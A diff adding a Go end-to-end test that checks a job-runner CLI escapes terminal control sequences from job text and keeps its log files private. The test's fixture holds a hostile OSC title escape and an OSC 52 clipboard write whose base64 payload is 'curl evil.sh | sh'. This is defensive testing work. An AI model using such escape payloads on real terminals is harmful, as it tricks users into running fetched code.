@@ -129,3 +129,58 @@ func TestE2ELiveView(t *testing.T) {
 		t.Error("job alpha did not run")
 	}
 }
+
+// Job text that holds terminal escapes (a title, a screen clear, a
+// clipboard write) reaches a terminal escaped, in the live view, the
+// summary and status; piped, status gives it byte for byte. The log dir
+// the run made, and its files, are the user's alone.
+func TestE2EEscapesOnTerminal(t *testing.T) {
+	t.Parallel()
+	dir := t.TempDir()
+	evil := "\x1b]2;pwned\x07\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"
+	onTerminal := func(args ...string) (raw, screenText string, code int) {
+		t.Helper()
+		ptmx, tty, err := pty.Open()
+		if err != nil {
+			t.Fatalf("no pseudo-terminal: %v", err)
+		}
+		defer ptmx.Close()
+		pty.Setsize(ptmx, &pty.Winsize{Rows: 24, Cols: 120})
+		cmd := exec.Command(binary, args...)
+		cmd.Dir = dir
+		cmd.Env = append(os.Environ(), "HOME="+dir, lockEnv(dir), "TERM=xterm")
+		cmd.Stdin = strings.NewReader("[name=evil] echo hi; exit 4 # " + evil + "\n")
+		cmd.Stdout, cmd.Stderr = tty, tty
+		if err := cmd.Start(); err != nil {
+			t.Fatal(err)
+		}
+		tty.Close()
+		scr := &screen{term: vt10x.New(vt10x.WithSize(120, 24))}
+		copied := make(chan struct{})
+		go func() { io.Copy(scr, ptmx); close(copied) }()
+		err = cmd.Wait()
+		<-copied
+		return scr.raw.String(), scr.text(), statusOf(err)
+	}
+	for _, args := range [][]string{{"--gpus", "0", "-o", "logs"}, {"status", "logs"}} {
+		raw, text, code := onTerminal(args...)
+		if code != 1 {
+			t.Errorf("%v: exit %d, want 1", args, code)
+		}
+		if strings.Contains(raw, "\x1b]2;pwned") || strings.Contains(raw, "\x1b]52;") {
+			t.Errorf("%v: the job's escapes reached the terminal:\n%q", args, raw)
+		}
+		if !strings.Contains(text, `\x1b]2;pwned\a`) {
+			t.Errorf("%v: the job's text is not shown escaped:\n%s", args, text)
+		}
+	}
+	r := gpd(t, dir, "", "status", "logs")
+	if !strings.Contains(r.stdout, evil) {
+		t.Errorf("piped status changed the job's bytes:\n%q", r.stdout)
+	}
+	for name, want := range map[string]os.FileMode{"logs": 0o700, "logs/journal.jsonl": 0o600, "logs/evil.out": 0o600, "logs/evil.err": 0o600} {
+		if st, err := os.Stat(filepath.Join(dir, name)); err != nil || st.Mode().Perm() != want {
+			t.Errorf("%s: %v, want mode %s", name, err, want)
+		}
+	}
+}
